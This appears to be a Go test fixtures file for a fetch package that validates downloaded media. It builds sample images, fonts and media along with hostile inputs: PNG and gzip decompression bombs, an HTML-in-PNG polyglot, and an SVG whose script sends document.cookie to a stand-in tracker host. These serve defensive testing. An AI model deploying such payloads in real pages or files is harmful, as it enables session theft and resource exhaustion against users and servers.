package fetch

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"math/rand/v2"
	"os"
	"sync"
	"testing"

	"golang.org/x/image/bmp"
	"golang.org/x/image/font/gofont/goregular"
)

// Fixtures: real files where Go can write them (PNG, JPEG, GIF, BMP, a
// TrueType font and a WOFF wrapping it), x/image's test WebPs (Go has no
// WebP encoder), and signature-only media (media is checked by
// signature, not decoded).

func testImage(w, h int, noise bool) image.Image {
	m := image.NewNRGBA(image.Rect(0, 0, w, h))
	r := rand.New(rand.NewPCG(1, 2))
	for y := range h {
		for x := range w {
			c := color.NRGBA{uint8(x), uint8(y), 128, 255}
			if noise {
				c = color.NRGBA{uint8(r.Uint32()), uint8(r.Uint32()), uint8(r.Uint32()), 255}
			}
			m.Set(x, y, c)
		}
	}
	return m
}

func encoded(t testing.TB, encode func(*bytes.Buffer) error) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := encode(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func pngFile(t testing.TB) []byte {
	return encoded(t, func(b *bytes.Buffer) error { return png.Encode(b, testImage(32, 16, false)) })
}

func pngEncodeNoise(b *bytes.Buffer, w, h int) error { return png.Encode(b, testImage(w, h, true)) }

func jpegFile(t testing.TB) []byte {
	return encoded(t, func(b *bytes.Buffer) error { return jpeg.Encode(b, testImage(32, 16, false), nil) })
}

func gifFile(t testing.TB) []byte {
	return encoded(t, func(b *bytes.Buffer) error { return gif.Encode(b, testImage(32, 16, false), nil) })
}

func bmpFile(t testing.TB) []byte {
	return encoded(t, func(b *bytes.Buffer) error { return bmp.Encode(b, testImage(32, 16, false)) })
}

func readTestdata(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// pngChunk appends a PNG chunk with its CRC.
func pngChunk(dst []byte, typ string, data []byte) []byte {
	dst = binary.BigEndian.AppendUint32(dst, uint32(len(data)))
	start := len(dst)
	dst = append(dst, typ...)
	dst = append(dst, data...)
	return binary.BigEndian.AppendUint32(dst, crc32.ChecksumIEEE(dst[start:]))
}

// pngHeader is a PNG signature and an IHDR claiming w×h RGBA pixels.
func pngHeader(w, h uint32) []byte {
	ihdr := binary.BigEndian.AppendUint32(nil, w)
	ihdr = binary.BigEndian.AppendUint32(ihdr, h)
	ihdr = append(ihdr, 8, 6, 0, 0, 0)
	return pngChunk([]byte("\x89PNG\r\n\x1a\n"), "IHDR", ihdr)
}

// bombPNG claims w×h pixels, with an IDAT of a megabyte of zeros squeezed
// into a kilobyte: what a decoder would allocate for is the header's.
func bombPNG(t testing.TB, w, h uint32) []byte {
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write(make([]byte, 1<<20))
	zw.Close()
	b := pngChunk(pngHeader(w, h), "IDAT", z.Bytes())
	return pngChunk(b, "IEND", nil)
}

// polyglotPNG is a PNG header followed by an HTML document.
func polyglotPNG() []byte {
	return append(pngHeader(16, 16), "<html><body><script>alert(document.domain)</script></body></html>"...)
}

// gzipBomb is 64 MiB of zeros in about 64 KiB: one gzipped MiB, as 64
// gzip members (which a decompressor reads as one stream).
var gzipBomb = sync.OnceValue(func() []byte {
	var b bytes.Buffer
	zw := gzip.NewWriter(&b)
	zw.Write(make([]byte, 1<<20))
	zw.Close()
	return bytes.Repeat(b.Bytes(), 64)
})

func ttfFile() []byte { return goregular.TTF }

// woffFile wraps a TrueType font in WOFF 1.0, its tables stored
// uncompressed (which the format allows).
func woffFile(t testing.TB, ttf []byte) []byte {
	be := binary.BigEndian
	n := int(be.Uint16(ttf[4:]))
	const header, entry = 44, 20
	dir := make([]byte, 0, n*entry)
	var data []byte
	off := header + n*entry
	for i := range n {
		rec := ttf[12+16*i:]
		tag, sum, tOff, tLen := rec[:4], be.Uint32(rec[4:]), be.Uint32(rec[8:]), be.Uint32(rec[12:])
		dir = append(dir, tag...)
		dir = be.AppendUint32(dir, uint32(off+len(data)))
		dir = be.AppendUint32(dir, tLen)
		dir = be.AppendUint32(dir, tLen)
		dir = be.AppendUint32(dir, sum)
		data = append(data, ttf[tOff:tOff+tLen]...)
		for len(data)%4 != 0 {
			data = append(data, 0)
		}
	}
	h := []byte("wOFF")
	h = append(h, ttf[:4]...)
	h = be.AppendUint32(h, uint32(off+len(data)))
	h = be.AppendUint16(h, uint16(n))
	h = be.AppendUint16(h, 0)
	h = be.AppendUint32(h, uint32(len(ttf)))
	h = append(h, make([]byte, header-len(h))...)
	return append(append(h, dir...), data...)
}

// woff2File is a WOFF2 header that matches its length, followed by
// opaque bytes: Fetch checks WOFF2 only up to its header.
func woff2File() []byte {
	be := binary.BigEndian
	b := []byte("wOF2\x00\x01\x00\x00")
	b = be.AppendUint32(b, 100)
	b = be.AppendUint16(b, 9)
	b = be.AppendUint16(b, 0)
	return append(b, make([]byte, 100-len(b))...)
}

func mp4File() []byte {
	return append([]byte("\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2"), "\x00\x00\x00\x08free"...)
}

func webmFile() []byte {
	return []byte("\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x84webm\x42\x87\x81\x04\x42\x85\x81\x02")
}

const vttFile = "WEBVTT\n\n00:00.000 --> 00:01.000\nHello, world\n"

const svgScript = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("https://tracker.example/?"+document.cookie)</script></svg>`

const htmlDoc = "<!DOCTYPE html><html><head><title>x</title></head><body><script>alert(1)</script></body></html>"
